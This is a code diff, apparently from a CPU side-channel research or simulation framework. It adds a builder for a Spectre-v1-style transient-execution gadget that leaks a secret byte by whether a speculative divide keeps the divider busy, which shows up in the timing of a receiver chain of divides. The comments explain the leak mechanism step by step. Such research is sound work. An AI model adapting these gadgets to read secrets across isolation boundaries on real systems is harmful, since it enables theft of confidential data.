@@ -113,6 +113,60 @@ GadgetProgram make_spectre_v1_gadget() {
   return finish(b);
 }
 
+GadgetProgram make_rewind_gadget(int receiver_divs) {
+  ProgramBuilder b;
+  // Receiver operands, set up outside the timed section. R10 seeds each
+  // chain link's dividend; R11 = 3 keeps every receiver divide on the
+  // full-latency path; R14 is the hard divisor the transient FDIV gets when
+  // the secret matches the test value.
+  b.mov(Reg::R10, 0x7ffffffffffll);
+  b.mov(Reg::R11, 3);
+  b.mov(Reg::R14, 0x123456789ll);
+  emit_start(b);
+  // Flush the bound so the check resolves at DRAM speed — the window stays
+  // open while the receiver chain drains.
+  b.clflush(Reg::RDI);
+  b.load(Reg::R9, Reg::RDI);    // array_length
+  // Receiver: to-be-retired divides with a one-cycle bubble between links.
+  // The mov both carries the dependence (so link k+1 becomes ready exactly
+  // one cycle after link k completes) and re-seeds the dividend.
+  for (int i = 0; i < receiver_divs; ++i) {
+    b.fdiv(Reg::R12, Reg::R11);
+    b.add(Reg::R12, Reg::R10);  // 1-cycle bubble + keep the dividend large
+  }
+  b.cmp(Reg::RSI, Reg::R9);     // CF set iff index < length (in bounds)
+  b.jcc(Cond::NC, "oob");       // trained not-taken by in-bounds accesses
+  // Transient (predicted in-bounds) path: read the secret, select the
+  // divisor branchlessly — the SIGNAL carrier is divider occupancy, not a
+  // resteer — and divide. On secret == test the FDIV occupies the divider
+  // through the receiver's next bubble; its squash does not release the
+  // unit.
+  b.mov(Reg::R15, Reg::RDX);
+  b.add(Reg::R15, Reg::RSI);
+  b.load_byte(Reg::RAX, Reg::R15);
+  b.mov(Reg::R13, Reg::RAX);    // keep the byte for the victim Jcc below
+  b.xor_(Reg::RAX, Reg::RBX);   // 0 (ZF set) iff secret == test
+  b.mov(Reg::R15, 1);           // early-exit divisor
+  b.cmov(Cond::Z, Reg::R15, Reg::R14);
+  b.fdiv(Reg::RAX, Reg::R15);
+  // The victim's own data-dependent branch, as in the V1 gadget. It is not
+  // the channel — the FDIV above is older and issues regardless — but its
+  // outcome feeds data-dependent bits into the gshare history, so the
+  // bounds check keeps mispredicting probe after probe instead of the
+  // probe-phase PHT entry saturating taken.
+  b.cmp(Reg::R13, Reg::RBX);
+  b.jcc(Cond::Z, "hit");
+  b.jmp("join");
+  b.nop(8);
+  b.label("hit").nop();
+  b.label("join").nop();
+  b.label("oob").nop();
+  // emit_end's LFENCE waits for every older entry — including the delayed
+  // tail of the receiver chain — before the closing RDTSC executes.
+  emit_end(b);
+  return finish(b);
+}
+
 GadgetProgram make_rsb_gadget() {
   ProgramBuilder b;
   emit_start(b);
